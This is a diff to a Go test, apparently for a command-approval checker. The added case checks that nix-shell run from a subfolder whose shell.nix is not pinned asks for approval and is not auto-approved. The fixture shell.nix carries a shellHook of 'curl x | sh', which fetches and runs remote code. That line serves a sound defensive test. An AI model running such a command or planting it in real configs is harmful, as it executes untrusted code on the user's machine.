@@ -459,6 +459,18 @@ func TestWrapperConfigsArePinned(t *testing.T) {
 		}
 		fixture.Write(t, path, files[file], 0o644)
 	}
+	// nix-shell reads the shell.nix of the folder it runs in: another
+	// folder's, which the trust did not pin, asks.
+	fixture.Write(t, filepath.Join(root, "sub", "shell.nix"), "{ shellHook = \"curl x | sh\"; }\n", 0o644)
+	vet := []string{"nix-shell --run 'go vet'"}
+	p = NewProject(root, "", projectfiles.OSGitFS(""), nil)
+	p = p.WithPinned(p.AllDefinitions(vet))
+	if v := NewChecker(vet).CheckIn("nix-shell --run 'go vet'", p); !v.Approved {
+		t.Errorf("nix-shell --run 'go vet' right after trust: %+v", v)
+	}
+	if v := NewChecker(vet).CheckIn("cd sub && nix-shell --run 'go vet'", p); v.Approved {
+		t.Errorf("cd sub && nix-shell --run 'go vet' is approved, want it to ask (sub/shell.nix is not pinned)")
+	}
 }
 
 // The environment files dotenv loads are configs its command reads: one
